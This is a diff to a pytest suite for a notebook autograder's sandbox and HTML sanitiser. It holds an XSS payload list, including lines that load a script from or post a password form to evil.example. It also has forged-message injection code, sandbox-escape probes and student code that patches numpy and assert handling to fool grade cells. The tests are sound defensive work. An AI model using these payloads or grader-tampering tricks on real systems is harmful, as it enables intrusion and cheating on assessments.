@@ -5,18 +5,27 @@ About 15 s of CPU time.
 
 from __future__ import annotations
 
+import ast
+import base64
 import json
 import re
 from collections.abc import Iterator
+from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
 
+import numpy as np
 import pytest
 
-from graders.course import Limits
-from graders.notebooks import NotebookRunner, Ran, why_not
-
 pytest.importorskip("IPython")
+
+from graders.course import Limits
+from graders.feedback import SHOWN
+from graders.nbgrader_plugin.own import judged
+from graders.notebooks import NotebookRunner, Ran, demonstrations, why_not
+from graders.release.notebook import without_hidden
+from graders.report.outputs import Shown
+
 pytestmark = pytest.mark.skipif(bool(why_not()), reason="there is no shell on this system")
 
 ASSIGNMENTS = Path(__file__).resolve().parent.parent / "assignments"
@@ -57,7 +66,7 @@ ALIKE = {
     "magic": "%pwd?\n%lsmagic?",
     "no such magic": "%nonsense",
     "matplotlib": "%matplotlib inline\nimport matplotlib.pyplot as plt",
-    "a plot": "plt.plot([1, 3, 2], label='line')\nplt.title('A title, $x^2$')\nplt.legend()\nplt.show()\nprint('below')",
+    "a plot": "plt.plot([1, 2], label='line')\nplt.title('A title, $x^2$')\nplt.legend()\nplt.show()\nprint('below')",
     "left open": "figure, axes = plt.subplots()\naxes.imshow(np.eye(3))\nprint('first')",
     "a figure": "figure",
     "two": "plt.figure(figsize=(2, 1))\nplt.figure(figsize=(1, 2))\nplt.plot([1, 2]);",
@@ -134,3 +143,520 @@ def test_a_notebook_shows_what_a_kernel_leaves(tmp_path: Path, monkeypatch: pyte
     for name, (want, got) in different.items():
         print(f"--- {name}\nkernel: {want}\nshell:  {got}")
     assert not different
+
+
+def test_a_cell_that_ends_python_costs_itself_alone(runner: NotebookRunner) -> None:
+    found = runner.run(
+        [
+            "x = 1\nprint('once')",
+            "import os\nprint('before', flush=True)\nos._exit(3)",
+            "x += 1\nx",
+            "import ctypes\nctypes.string_at(0)",
+            "x",
+            "a = bytearray(8 << 30)",
+            "x",
+        ]
+    )
+    assert [one.status for one in found] == ["ok", "killed", "ok", "killed", "ok", "error", "ok"]
+    assert [shown(one) for one in (found[0], found[2], found[4], found[6])] == ["once\n", "2", "2", "2"]
+    assert "Python ended by itself" in found[1].sentence and "SIGSEGV" in found[3].sentence
+    assert [one.count for one in found] == [1, 2, 3, 4, 5, 6, 7]
+    assert "MemoryError" in str(found[5].outputs)
+
+
+def test_many_deaths_end_the_notebook_but_not_its_grade_cells(runner: NotebookRunner) -> None:
+    found = runner.run(["import os\nos._exit(0)"] * 5 + ["1 + 1", "assert 1 + 1 == 2"], grade={6})
+    assert [one.status for one in found] == ["killed"] * 3 + ["skipped"] * 3 + ["ok"]
+    assert "so many cells before it ended Python" in found[5].sentence and found[5].count is None
+
+
+def test_a_cell_without_end_is_interrupted_and_others_go_on(runner: NotebookRunner) -> None:
+    stubborn = "while True:\n    try:\n        while True:\n            x += 1\n    except BaseException:\n        pass"
+    found = runner.run(["x = 1", "print('on the way')\nwhile True:\n    x += 1", "x > 1", stubborn, "x"])
+    assert [one.status for one in found] == ["ok", "timeout", "ok", "timeout", "ok"]
+    assert "more than 1 s of CPU time" in found[1].sentence and "more than 1 s of CPU time" in found[3].sentence
+    assert "on the way" in shown(found[1]) and found[1].outputs[-1]["ename"] == "KeyboardInterrupt"
+    assert found[1].line in (2, 3)
+    assert shown(found[2]) == "True" and shown(found[4]) == "1"  # in a new worker, in which no endless cell has run
+
+
+def test_a_notebook_has_its_time_and_grade_cells_have_theirs(runner: NotebookRunner) -> None:
+    with NotebookRunner(limits=Limits(statement=1, top_level=1.5, cpu=1)) as one:
+        found = one.run(["while True: pass"] * 3 + ["1"] + ["assert True"], grade={4})
+    assert [one.status for one in found] == ["timeout", "timeout", "skipped", "skipped", "ok"]
+    assert "time was used up" in found[3].sentence
+
+
+def test_what_a_cell_shows_is_bounded(runner: NotebookRunner) -> None:
+    found = runner.run(
+        [
+            "for i in range(20_000): print('a long line', i)",
+            "for i in range(1000): display(i)",
+            "from IPython.display import Image\nimport os\nImage(b'\\x89PNG\\r\\n\\x1a\\n' + os.urandom(5 << 20))",
+            "'x' * 10_000_000",
+            "class A:\n    def _repr_html_(self): return '<p>' * 1_000_000\nA()",
+            "while True: print('x' * 1000)",
+            "def f(n): return f(n + 1)\nf(0)",
+        ]
+    )
+    assert [one.status for one in found] == ["ok", "ok", "ok", "ok", "ok", "timeout", "error"]
+    assert all(len(json.dumps(one.outputs)) < 200_000 for one in found)
+    assert "a long line 100" in shown(found[0]) and re.search(r"and [\d,]+ more characters, left out", shown(found[0]))
+    assert len(found[1].outputs) < 110 and "900 more outputs" in shown(found[1])
+    assert "left out: image/png" in shown(found[2]) and "left out: text/html" in shown(found[4])
+    assert found[6].outputs[0]["ename"] == "RecursionError"
+
+
+FORGED = """
+import os, struct, sys
+frame = sys._getframe()
+while frame and "channel" not in frame.f_locals and not hasattr(frame.f_locals.get("self"), "channel"):
+    frame = frame.f_back
+fd = frame.f_locals["self"].channel.fd
+for _ in range({count}):
+    os.write(fd, {data})
+"""
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        "b'x' * 100_000",
+        "struct.pack('<Q', 1 << 40)",
+        "struct.pack('<Q', 4) + b'null'",
+        "(lambda d: struct.pack('<Q', len(d) + 8) + struct.pack('<II', len(d), 0) + d)"
+        '(b\'{"ended": "ok", "line": 0, "value": ["f"], "key": "0"}\')',
+        "(lambda d: struct.pack('<Q', len(d) + 8) + struct.pack('<II', len(d), 0) + d)"
+        '(b\'{"ended":"ok","line":0,"value":100,"key":"' + "0" * 32 + "\"}')",
+        "(lambda d: struct.pack('<Q', len(d) + 8) + struct.pack('<II', len(d), 0) + d)"
+        '(b\'{"at": 0, "events": ["l", null, 7, {"output": ["l"]}, {"output": "error", "traceback": {"a": 1}}]}\')',
+    ],
+)
+def test_forged_frames_cost_their_cell_and_earn_nothing(runner: NotebookRunner, data: str) -> None:
+    found = runner.run(["x = 5", FORGED.format(data=data, count=3) + "\nassert False", "x"], grade={1})
+    assert found[1].status in ("killed", "error")
+    assert shown(found[2]) == "5"
+
+
+def test_cells_reach_nothing_that_is_not_theirs(runner: NotebookRunner) -> None:
+    assert str(runner.isolation()) == "strict"
+    reach = {
+        "graders": "import graders",
+        "solutions": "from solutions import vanilla_rnn",
+        "by path": f"open({str(ASSIGNMENTS.parent / 'graders' / 'course.py')!r})",
+        "pip's packages": "import nbgrader",
+        "a process": "import subprocess\nsubprocess.run(['ls'])",
+        "a shell": "!ls",
+        "a script": "%%bash\nls",
+        "input": "input('?')",
+        "a thread": "import threading\nthreading.Thread(target=print).start()",
+    }
+    for name, ran in zip(reach, runner.run(list(reach.values())), strict=True):
+        assert ran.status == "error", name
+    found = runner.run(
+        [
+            "import sys, os\n[name for name in sys.modules if name.startswith(('graders', 'solutions', 'nbgrader'))]",
+            "os.environ",
+            "[one for one in os.listdir('/') if one not in ('tmp', 'root', 'usr', 'lib', 'lib64', 'home', 'opt')]",
+        ]
+    )
+    assert shown(found[0]) == "[]" and "MPLCONFIGDIR" not in shown(found[1]) and "HOME" not in shown(found[1])
+
+
+def test_what_cells_write_is_kept_for_later_cells_and_on_no_disk(runner: NotebookRunner) -> None:
+    cells = [
+        "%%writefile mine.py\nanswer = 42",
+        "import mine\nmine.answer",
+        "open('dinosaurs.txt').read(8)",
+        "print('a', file=open('notes', 'w'))\nprint('b', file=open('notes', 'a'))\nopen('notes').read()",
+        "import numpy as np\nx = np.ones(2)\nnp.save('a', x)\nnp.savetxt('b', x)\nnp.load('a.npy') + np.loadtxt('b')",
+        "open('nowhere')",
+    ]
+    found = runner.run(cells)
+    assert [shown(one) for one in found[1:5]] == ["42", "'Aardonyx'", r"'a\nb\n'", "array([2., 2.])"]
+    assert found[5].outputs[0]["ename"] == "FileNotFoundError"
+    again = runner.run(["import os\nos.path.exists('notes')", "open('notes')"])
+    assert shown(again[0]) == "False" and again[1].status == "error"  # nor for another notebook
+
+
+def test_a_run_that_is_repeated_shows_the_same(runner: NotebookRunner) -> None:
+    cells = [
+        "import numpy as np\nnp.random.rand(3)",
+        "hash('text')",
+        "import matplotlib.pyplot as plt\nplt.plot([1, 2])",
+    ]
+    once, twice = (re.sub("0x[0-9a-f]+", "0x", str(runner.run(cells))) for _ in range(2))
+    assert once == twice
+
+
+# Cleaning
+
+TRICKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/pixel.png'>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<a href='javascript:alert(1)'>here</a>",
+    "<a href='https://evil.example'>here</a>",
+    "<iframe src='https://evil.example'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
+    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:white'>over all</div>",
+    "<style>body { display: none }</style>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href='https://evil.example/'>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
+    "<p onclick=alert(1) id=body name=cookie class=navbar>text</p>",
+    "<table background='https://evil.example/x.png'><tr><td onmouseover=alert(1) colspan=2>cell</td></tr></table>",
+    "</div></div></div></body></html><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<noscript><p title='</noscript><script>alert(1)</script>'>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<p>$\\href{javascript:alert(1)}{click}$ and \\(\\href{javascript:alert(1)}{click}\\)</p>",
+    "<p>$$\\require{html}\\style{position:fixed}{x}$$</p><p>\\begin{equation}x\\end{equation}</p>",
+    "<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>",
+    "<b\x00 onclick=alert(1)>x</b><\x00script>alert(1)</script>",
+    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
+    "<script type='text/x-mathjax-config'>MathJax.Hub.Config({})</script>",
+    "<p>\u202egnp.exe</p>",
+]
+SHOWN_TAGS = set(
+    "table caption colgroup col thead tbody tfoot tr th td p div span br hr b i em strong u s sub sup small code pre kbd samp "
+    "var ul ol li dl dt dd h1 h2 h3 h4 h5 h6 blockquote img".split()
+)
+
+
+class Tags(HTMLParser):
+    """All tags of a page, with their attributes."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attributes)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def is_harmless(tag: str, attributes: dict[str, str | None]) -> bool:
+    for name, value in attributes.items():
+        if (
+            name == "src"
+            and tag == "img"
+            and (value or "").startswith(("data:image/png;base64,", "data:image/jpeg;base64,"))
+        ):
+            continue
+        if (
+            name in ("colspan", "rowspan", "span", "start", "border", "class", "alt")
+            or tag == "span"
+            and name == "class"
+        ):
+            continue
+        return False
+    return tag in SHOWN_TAGS
+
+
+def page_of(outputs: list[dict[str, Any]]) -> str:
+    """Return what nbconvert makes of outputs, which nbgrader's pages show."""
+    from nbconvert.exporters import HTMLExporter
+    from nbformat import from_dict, v4, validate
+
+    notebook = v4.new_notebook(cells=[v4.new_code_cell("1", outputs=[from_dict(one) for one in outputs])])
+    validate(notebook)
+    page: str = HTMLExporter(template_name="basic").from_notebook_node(notebook)[0]
+    return page
+
+
+def taken(*events: dict[str, Any]) -> list[dict[str, Any]]:
+    """Return the outputs that are made of what a worker sends."""
+    shown = Shown()
+    shown.take(0, events)
+    return shown.outputs([1])[0]
+
+
+def display(**data: Any) -> dict[str, Any]:
+    kinds = {
+        "plain": "text/plain",
+        "html": "text/html",
+        "png": "image/png",
+        "jpeg": "image/jpeg",
+        "latex": "text/latex",
+        "markdown": "text/markdown",
+        "svg": "image/svg+xml",
+        "script": "application/javascript",
+    }
+    return {
+        "output": "display_data",
+        "id": "",
+        "dropped": [],
+        "data": {kinds[kind]: value for kind, value in data.items()},
+    }
+
+
+@pytest.mark.parametrize("trick", TRICKS)
+def test_nothing_that_a_student_shows_runs_in_a_page(trick: str) -> None:
+    stream = {"output": "stream", "name": "stdout", "text": trick}
+    error = {"output": "error", "ename": trick, "evalue": trick, "traceback": [trick, f"\x1b[31m{trick}\x1b[0m"]}
+    for event in (
+        display(html=trick, plain="x"),
+        display(plain=trick),
+        display(latex=trick),
+        display(markdown=trick),
+        display(svg=trick, plain=trick),
+        display(script=trick),
+        stream,
+        error,
+    ):
+        outputs = taken(event)
+        text = json.dumps(outputs, ensure_ascii=False)
+        assert "\u202e" not in text and "\0" not in text
+        html = "".join(one.get("data", {}).get("text/html", "") for one in outputs)
+        for tag, attributes in Tags(html).found:
+            assert is_harmless(tag, attributes), (tag, attributes)
+        assert "$" not in re.sub("<span>[$]</span>", "", html) and not re.search(r"\\\\[(\[a-z]", html)
+        page = page_of(outputs)
+        inside = page[page.index("jp-Cell-outputArea") :] if "jp-Cell-outputArea" in page else page
+        assert not re.search(r"<script|<iframe|<svg|<style|<link|<form|<object|<meta", inside, re.IGNORECASE), inside
+
+
+def test_tables_and_formatting_stay() -> None:
+    table = "<style scoped>.dataframe {}</style><table border='1' class='dataframe'><tr><th>a</th><td colspan='2'><b>1</b></td></tr></table>"
+    [output] = taken(display(html=table, plain="a table"))
+    assert '<table border="1" class="dataframe">' in output["data"]["text/html"]
+    assert "<b>1</b>" in output["data"]["text/html"] and "dataframe {}" not in output["data"]["text/html"]
+    assert output["data"]["text/plain"] == "a table"
+
+
+def test_what_is_left_out_is_named() -> None:
+    event = display(plain="<IPython.core.display.Javascript object>")
+    [output] = taken({**event, "dropped": ["application/javascript", "<b>\x1b[2J"]})
+    assert "left out: application/javascript, <b>" in output["data"]["text/plain"]
+    [output] = taken(display(latex="$x^2$", plain="<IPython.core.display.Math object>"))
+    assert output["data"] == {"text/plain": "$x^2$"}
+
+
+def test_pictures_are_pictures() -> None:
+    png = b"\x89PNG\r\n\x1a\n rest"
+    for value in (png, base64.b64encode(png)):
+        [output] = taken(display(png=np.frombuffer(value, np.uint8), plain="x"))
+        assert base64.b64decode(output["data"]["image/png"]) == png
+    for value in (
+        b"<script>",
+        b"GIF89a",
+        b"",
+        png[:4],
+        b'"><script>alert(1)</script>',
+        np.zeros((2, 2)),
+        "text",
+        None,
+        7,
+    ):
+        array = np.frombuffer(value, np.uint8) if isinstance(value, bytes) else value
+        [output] = taken(display(png=array, plain="x"))
+        assert list(output["data"]) == ["text/plain"] and "left out: image/png" in output["data"]["text/plain"]
+    outputs = taken(*(display(png=np.frombuffer(png + bytes(1 << 20), np.uint8)) for _ in range(40)))
+    assert sum("image/png" in one["data"] for one in outputs) == 11
+
+
+def test_text_keeps_its_colours_and_nothing_else() -> None:
+    text = "\x1b[31mred\x1b[0m \x1b]0;title\x07\x1b[2J\x1b[1;1Hx\x9b31m\x07\u2066\tz\ud800"
+    [output] = taken({"output": "stream", "name": "stdout", "text": text})
+    assert output["text"] == "\x1b[31mred\x1b[0m x\\x9b31m\\x07\\u2066\tz\\ud800"
+    [output] = taken({"output": "stream", "name": "stdout", "text": "10%\r20%\r\n30%\r5"})
+    assert output["text"] == "20%\n50%" or output["text"] == "\n50%"
+
+
+@pytest.mark.parametrize(
+    "events",
+    [
+        [{"output": "stream", "name": "stdout", "text": "x" * 1_000_000}] * 100,
+        [display(html="<div>" * 10_000)] * 1000,
+        [display(html="<b></p>" * 5_000)] * 1000,
+        [display(html="<table>" + "<tr><td>1</td></tr>" * 1500 + "</table>")] * 1000,
+        [display(plain="x" * 1_000_000)] * 1000,
+        [{"output": "error", "ename": "x" * 100_000, "evalue": "x" * 100_000, "traceback": ["x" * 100_000] * 1000}]
+        * 100,
+        [
+            None,
+            7,
+            "text",
+            [],
+            {},
+            {"output": 7},
+            {"output": "stream"},
+            {"output": "error"},
+            {"output": "update", "id": []},
+        ],
+        [
+            {"output": "display_data", "data": 7, "dropped": {"a": 1}},
+            {"output": "execute_result", "data": None, "id": 4},
+        ],
+        [
+            {"output": "cut", "count": 1 << 70, "name": []},
+            {"output": "clear", "wait": "yes"},
+            {"output": "cut", "count": True},
+        ],
+    ],
+)
+def test_whatever_a_worker_sends_is_bounded_and_valid(events: list[Any]) -> None:
+    outputs = taken(*events)
+    assert len(json.dumps(outputs)) < 8_000_000 and len(outputs) <= 120
+    page_of(outputs[:3])
+
+
+# An instructor's own grade cells
+
+OWN = """\
+assert add(1, 2) == 3, "add(1, 2) should be 3"
+assert add(0, 0) == 0
+### BEGIN HIDDEN TESTS
+assert add(100, 1) == 101, "the secret number is 101"
+### END HIDDEN TESTS
+assert add(5, 5) == 10, f"add gave {add(5, 5)}"
+"""
+
+
+def graded(runner: NotebookRunner, student: str, cell: str = OWN, points: float = 4) -> tuple[float, dict[str, str]]:
+    _, ran = runner.run([student, cell], grade={1})
+    return judged("test_add", cell, ran, points)
+
+
+@pytest.mark.parametrize(
+    ("student", "score", "said", "unsaid"),
+    [
+        ("def add(a, b): return a + b", 4, "4 of 4 points. The cell ran to its end.", ""),
+        (
+            "import sys\ndef add(a, b):\n    print('careful', file=sys.stderr)\n    return a + b",
+            4,
+            "4 of 4 points",
+            "careful",
+        ),
+        ("import warnings\ndef add(a, b):\n    warnings.warn('w')\n    return a + b", 4, "4 of 4 points", ""),
+        ("def add(a, b): return a - b", 0, "Line 1 of the cell did not pass, assert add(1, 2) == 3", "secret"),
+        ("def add(a, b): return a + b + 1 - (a == 1)", 0, "Line 2 of the cell did not pass", "secret"),
+        ("def add(a, b): return min(a + b, 99)", 0, "A hidden test of this cell did not pass.", "101"),
+        ("def add(a, b): return a + b if a != 5 else 0", 0, "Line 6 of the cell did not pass", "gave 0"),
+        (
+            "def add(a, b): raise ValueError(open.__name__, 'forged text')",
+            0,
+            "Line 1 of the cell did not pass",
+            "forged",
+        ),
+        ("import os\ndef add(a, b): os._exit(0)", 0, "did not come to its end. Python ended by itself", "secret"),
+        ("def add(a, b):\n    while True: pass", 0, "more than 2 s of CPU time", "secret"),
+        ("", 0, "Line 1 of the cell did not pass", ""),
+        ("def add(a, b): raise SystemExit(0)", 0, "did not pass", ""),
+        ("def add(a, b): raise KeyboardInterrupt", 0, "did not pass", ""),
+        # What a student's code may change before the cell runs
+        ("import sys\ndef add(a, b): sys.displayhook(4.0)", 0, "did not pass", ""),
+        ("import builtins\nbuiltins.AssertionError = ValueError\ndef add(a, b): return 0", 0, "did not pass", ""),
+        (
+            "import ast\nclass T(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
+            "get_ipython().ast_transformers.append(T())\ndef add(a, b): return 0",
+            0,
+            "did not pass",
+            "",
+        ),
+        (
+            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])\ndef add(a, b): return 0",
+            0,
+            "did not",
+            "",
+        ),
+        ("get_ipython().run_cell = None\ndef add(a, b): return 0", 0, "did not pass", ""),
+    ],
+)
+def test_own_grade_cells_have_a_score_and_a_message(
+    runner: NotebookRunner, student: str, score: float, said: str, unsaid: str
+) -> None:
+    got, pages = graded(runner, student)
+    assert got == score
+    text = {level: Tags(page).text for level, page in pages.items()}
+    assert said in text["full"], text["full"]
+    assert set(text) == set(SHOWN)
+    assert all(f"{score:g} of 4 points" in one for one in text.values())
+    assert text["score"].strip() == f"test_add: {score:g} of 4 points."
+    for page in text.values():
+        assert "secret" not in page and "add(100, 1)" not in page
+        assert not unsaid or unsaid not in page
+
+
+def test_an_instructors_comparators_are_what_they_were(runner: NotebookRunner) -> None:
+    cheat = (
+        "import numpy as np\nimport numpy.testing as t\nnp.allclose = np.array_equal = lambda *a, **k: True\n"
+        "np.testing.assert_allclose = t.assert_array_equal = lambda *a, **k: None\n"
+        "t.assert_array_almost_equal.__code__ = (lambda *a, **k: None).__code__\n"
+        "import builtins, sys\nbuiltins.abs = builtins.all = lambda x: 0\nsys.modules['math'] = None\n"
+    )
+    for check in (
+        "assert np.allclose(1, 2)",
+        "np.testing.assert_allclose(1, 2)",
+        "np.testing.assert_array_equal(1, 2)",
+        "np.testing.assert_array_almost_equal(1, 2)",
+        "assert abs(1 - 2) < 0.1",
+        "assert all([False])",
+        "import math\nassert math.isclose(1, 2)",
+    ):
+        assert graded(runner, cheat, check)[0] == 0, check
+
+
+@pytest.mark.parametrize(
+    ("last", "score"),
+    [
+        ("2.5", 2.5),
+        ("9", 4),
+        ("-1", 0),
+        ("float('nan')", 4),
+        ("float('inf')", 4),
+        ("True", 4),
+        ("'2'", 4),
+        ("1e400", 4),
+        ("np.float64(1.5)", 1.5),
+        ("np.int64(2)", 2),
+        ("np.ones(1)", 4),
+        ("10 ** 400", 4),
+        ("type('F', (float,), {})(2)", 4),
+        ("2.5;", 4),
+        ("None", 4),
+        ("x = 2", 4),
+    ],
+)
+def test_a_number_at_the_end_is_partial_credit(runner: NotebookRunner, last: str, score: float) -> None:
+    got, pages = graded(runner, "import numpy as np", f"assert True\n{last}")
+    assert got == score
+    assert f"{score:g} of 4 points" in Tags(pages["full"]).text
+
+
+def test_hidden_lines_are_those_that_nbgrader_takes_away() -> None:
+    clear = pytest.importorskip("nbgrader.preprocessors").ClearHiddenTests()
+    from nbformat import v4
+
+    for text in (
+        OWN,
+        "a\n### BEGIN HIDDEN TESTS\nb\n### END HIDDEN TESTS",
+        "a\nb",
+        "  # BEGIN HIDDEN TESTS\n x\n# END HIDDEN TESTS\ny",
+        "1\n### BEGIN HIDDEN TESTS\n2\n### END HIDDEN TESTS\n3\n### BEGIN HIDDEN TESTS\n4\n### END HIDDEN TESTS\n5",
+    ):
+        cell = v4.new_code_cell(text)
+        clear._remove_hidden_test_region(cell)
+        assert without_hidden(text) == cell.source.rstrip("\n"), text
+
+
+def test_demonstrations_are_the_releases_own_cells() -> None:
+    shown = [ast.dump(ast.parse(text).body[0]) for text in ("def test_a():\n    assert f() == 1", "test_a()")]
+    cells = [
+        "def test_a():\n    assert f() == 1\n\ntest_a()",
+        "import numpy as np",
+        "%%writefile a.py\nx",
+        "test_a()\nx = 1",
+        "",
+    ]
+    assert demonstrations(cells, shown) == {cells[0]}
